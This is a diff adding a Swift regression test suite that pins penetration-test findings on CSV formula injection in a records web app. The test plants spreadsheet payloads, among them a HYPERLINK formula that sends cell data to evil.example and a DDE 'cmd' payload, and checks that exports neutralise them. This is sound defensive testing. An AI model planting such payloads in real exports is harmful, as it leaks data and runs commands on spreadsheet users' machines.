@@ -1,0 +1,92 @@
+import Testing
+import Foundation
+import Vapor
+import VaporTesting
+import Fluent
+import HocBaCore
+import HocBaStore
+import HocBaTesting
+
+/// The findings of the penetration test (issue 12), each pinned by a test (docs/security.md).
+@Suite(.serialized) struct SecurityFindingsTests {
+    // MARK: CSV formula injection
+
+    /// Text a spreadsheet would run as a formula, planted in every kind of record a list download shows.
+    static func plantFormulas(_ app: Application) async throws {
+        let store = RecordStore(app.db)
+        try await store.createUnit(UnitDraft(code: "BB-X", name: "-Xã Âm", level: .commune, parentCode: "BB"))
+        for (code, name) in [("F1", #"=HYPERLINK("http://evil.example/?x="&A2,"x")"#), ("F2", "@SUM(1)"),
+                             ("F3", "-2+3+cmd|' /C calc'!A0"), ("F4", "+1")] {
+            try await store.createPerson(PersonDraft(code: code, fullName: name, unitCode: "BB-X", category: .civilServant,
+                                                     post: "=1+1"))
+        }
+        try await store.saveInstitution(InstitutionDraft(code: "TT-X", name: "+Trung tâm lạ"))
+        try await store.saveInstructor(InstructorDraft(code: "GV-X", fullName: "@Giảng viên", institutionCode: "TT-X"))
+        try await store.createClass(ClassDraft(code: "L-X", name: "=1+2", programmeType: "NGACH", institutionCode: "TT-X",
+                                               start: Day(2019, 3, 4), end: Day(2019, 3, 8)))
+        try await store.saveFundingLine(FundingDraft(documentNumber: "KP-X", year: 2019, source: "NSDP", amount: 5,
+                                                     note: "\tcmd"))
+    }
+
+    /// Every `.csv` route of the router, fetched by the province: no field starts with = + - @ tab or CR unless it
+    /// is a number, and each shows at least one planted value, neutralised with a leading quote.
+    @Test func noCSVDownloadHandsASpreadsheetAFormula() async throws {
+        try await withTestApp { app in
+            try await seedTwoDistricts(app)
+            try await Self.plantFormulas(app)
+            let admin = try await Visitor.signedIn(app)
+            let paths = app.routes.all.filter { $0.method == .GET && $0.path.last?.description.hasSuffix(".csv") == true }
+                .map { "/" + $0.path.map(\.description).joined(separator: "/") }
+            #expect(paths.count >= 6)
+            for path in paths {
+                let (status, body) = try await admin.get(path)
+                #expect(status == .ok, "\(path)")
+                let fields = parseCSV(body).flatMap { $0 }
+                for field in fields where Int(field) == nil {
+                    #expect(!startsLikeFormula(field), "\(path): \(field.debugDescription)")
+                }
+                #expect(fields.contains { $0.hasPrefix("'") && startsLikeFormula(String($0.dropFirst())) },
+                        "\(path) shows no planted value")
+            }
+            let people = parseCSV(try await admin.get("/can-bo.csv").1)
+            #expect(people.contains { $0.contains(#"'=HYPERLINK("http://evil.example/?x="&A2,"x")"#) })
+            #expect(people.contains { $0.contains("'-2+3+cmd|' /C calc'!A0") })
+        }
+    }
+}
+
+/// Whether a spreadsheet would read the field as a formula.
+func startsLikeFormula(_ field: String) -> Bool {
+    guard let first = field.unicodeScalars.first else { return false }
+    return "=+-@\t\r".unicodeScalars.contains(first)
+}
+
+/// RFC 4180 fields (quoted fields may hold commas, quotes and line breaks), after the byte-order mark.
+func parseCSV(_ text: String) -> [[String]] {
+    var rows: [[String]] = [], row: [String] = [], field = String.UnicodeScalarView()
+    let scalars = Array(text.unicodeScalars.drop { $0 == "\u{FEFF}" })
+    var quoted = false, index = 0
+    while index < scalars.count {
+        let scalar = scalars[index]
+        index += 1
+        if quoted {
+            if scalar == "\"" {
+                if index < scalars.count, scalars[index] == "\"" { field.append("\""); index += 1 } else { quoted = false }
+            } else {
+                field.append(scalar)
+            }
+        } else if scalar == "\"" {
+            quoted = true
+        } else if scalar == "," {
+            row.append(String(field)); field = .init()
+        } else if scalar == "\r", index < scalars.count, scalars[index] == "\n" {
+            index += 1
+            row.append(String(field)); field = .init()
+            rows.append(row); row = []
+        } else {
+            field.append(scalar)
+        }
+    }
+    if !field.isEmpty || !row.isEmpty { row.append(String(field)); rows.append(row) }
+    return rows
+}
